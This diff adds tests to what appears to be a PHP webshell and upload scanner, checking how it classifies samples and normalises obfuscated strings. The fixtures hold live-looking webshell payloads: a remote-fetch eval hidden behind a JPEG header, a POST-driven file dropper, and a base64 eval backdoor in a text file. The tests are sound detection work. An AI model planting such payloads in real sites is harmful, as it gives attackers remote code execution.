@@ -190,3 +190,33 @@ def test_the_crawler_check_finds_the_match_a_search_finds():
     for text in texts:
         found, searched = spam._bot_check(text), spam._BOT_CHECK.search(text)
         assert (found and found.span()) == (searched and searched.span()), text
+
+
+JPEG_HEAD = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
+
+
+def test_a_short_tag_running_code_behind_a_picture_header_is_read_as_php():
+    """<?=eval(...) or <? @fwrite(...) after a JPEG header: PHP runs it in a file named .php, and in a picture it is
+    a script smuggled past an upload filter. A picture whose bytes happen to hold "<?" followed by no code is not."""
+    payload = b"<?=eval('?>' . file_get_contents('https://203.0.113.9/a.txt'));?>"
+    assert analyse.analyse("site/img.php", JPEG_HEAD + payload + b"\x00" * 64, 10, [])["kind"] == "webshell"
+    dropper = JPEG_HEAD + b"<? @fwrite(fopen('x.php', 'w'), $_POST['c']); ?>" + b"\x00" * 64
+    assert analyse.analyse("site/images/a.jpg", dropper, 10, [])["kind"] == "suspicious_upload"
+    assert analyse.analyse("site/images/b.jpg", JPEG_HEAD + b"<?\x00\x13<?=\x00" + b"\x00" * 64, 10, []) \
+        .get("kind") is None
+
+
+def test_chunks_appended_one_statement_each_are_joined_into_one_literal():
+    text = "<?php $z = '';\n" + "".join("$z .= '%s';\n" % piece for piece in ("c3lz", "dGVt")) + "$w .= \"$v\";"
+    assert "$z .= 'c3lzdGVt';" in decode.normalise(text)
+    assert "$w .= \"$v\";" in decode.normalise(text)  # interpolation is not a literal piece
+    mixed = "<?php $a .= 'x'; $b .= 'y'; $a .= 'z';"
+    assert decode.normalise(mixed).count(".=") == 3  # another variable between: nothing joined
+
+
+def test_an_echo_tag_opening_a_text_file_makes_it_php():
+    """<?=/* comment */ ... in a .txt kept for inclusion: PHP reads the echo tag whatever follows it."""
+    text = b"<?=/*x*/@NULL;$a='e'.'v'.'a'.'l';@eval(base64_decode($_POST['k']));"
+    assert analyse.analyse("site/notes/p.txt", text, 10, [])["kind"] == "suspicious_upload"
+    assert analyse.analyse("site/notes/readme.txt", b"Use <?php echo $x; ?> in templates; a <? is a tag.", 10, []) \
+        .get("kind") is None
